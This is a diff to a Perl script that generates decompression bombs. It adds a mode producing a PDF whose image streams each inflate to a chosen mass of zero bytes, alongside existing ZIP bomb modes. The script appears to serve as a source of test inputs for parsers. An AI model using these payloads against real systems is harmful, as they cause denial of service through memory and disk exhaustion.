@@ -3,10 +3,11 @@
 #   overlap   many names of one packed member (one that unpacks to ZEROS bytes)
 #   nested    LEVELS ZIPs inside each other, each holding the next one WIDTH times
 #   many      as many empty members
+# and bombs.pl pdf PICTURES ZEROS > FILE.pdf: pictures that each unpack to ZEROS bytes
 use strict;
 use warnings;
 use Compress::Raw::Zlib;
-use Compress::Zlib qw(crc32);
+use Compress::Zlib qw(crc32 compress);
 
 binmode STDOUT;
 my ($kind, @args) = @ARGV;
@@ -50,6 +51,11 @@ if ($kind eq 'overlap') {
 	my $zip = copies($args[1], "\0" x 1000000);
 	$zip = copies($args[1], $zip) for 2 .. $args[0];
 	print $zip;
+} elsif ($kind eq 'pdf') {
+	my $zeros = compress("\0" x $args[1], 9);
+	print "%PDF-1.5\n";
+	printf "%d 0 obj\n<</Subtype/Image/Width 9999/Height 9999/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode/Length %d>>\n"
+	    . "stream\n%s\nendstream\nendobj\n", $_, length $zeros, $zeros for 1 .. $args[0];
 } else {
 	my ($body, $directory) = ('', '');
 	my $m = {method => 0, crc => 0, packed => 0, size => 0};
